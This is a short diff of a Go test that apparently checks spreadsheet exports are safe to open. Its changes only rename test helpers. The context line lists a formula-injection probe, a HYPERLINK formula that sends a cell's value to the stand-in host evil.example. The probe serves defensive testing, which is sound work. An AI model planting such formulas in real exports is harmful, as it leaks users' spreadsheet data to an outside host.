@@ -23,8 +23,8 @@ var formulaProbes = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
 // formula_escaping none, asked for by name, writes them verbatim.
 func TestExportsSafeToOpen(t *testing.T) {
 	t.Parallel()
-	storetest.RunWith(t, Migrations, func(t *testing.T, db *store.DB) {
-		fe := newFileEnv(t, db)
+	storetest.RunParallel(t, Migrations, func(t *testing.T, db *store.DB) {
+		fe := newCoreEnv(t, db)
 		ctx := context.Background()
 		// stored are the values as the API kept them, by column and row key.
 		stored := map[string]string{}
